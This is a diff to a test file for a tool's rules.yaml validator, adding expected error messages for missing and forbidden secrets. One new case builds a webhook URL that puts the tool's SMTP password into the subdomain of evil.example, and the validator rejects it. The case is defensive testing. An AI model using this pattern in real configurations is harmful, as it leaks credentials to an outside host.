@@ -80,8 +80,21 @@ subscribers:
 rules.yaml:6:15: `${DUTY_SECRET}` is not set
           secret: ${DUTY_SECRET}
                   ^^^^^^^^^^^^^^
-    → Set the environment variable DUTY_SECRET, or put a file DUTY_SECRET into the secrets \
-directory.
+    → Write DUTY_SECRET=… into .env, put a file DUTY_SECRET into the secrets directory, or list \
+the environment variable DUTY_SECRET in TOCSIN_RULES_VARIABLES.
+""",
+    ),
+    "setting of Tocsin": (
+        """
+subscribers:
+  - id: desk
+    webhook: {url: "https://${TOCSIN_SMTP_PASSWORD}.evil.example/", secret: "${DESK_SECRET}"}
+""",
+        """
+rules.yaml:4:29: `${TOCSIN_SMTP_PASSWORD}` is a setting of Tocsin, which rules cannot read
+        webhook: {url: "https://**********************}.evil.example/", secret: "${DESK_SECRET}"}
+                                ^^^^^^^^^^^^^^^^^^^^^^^
+    → Give the secret another name.
 """,
     ),
     "address without its beginning": (
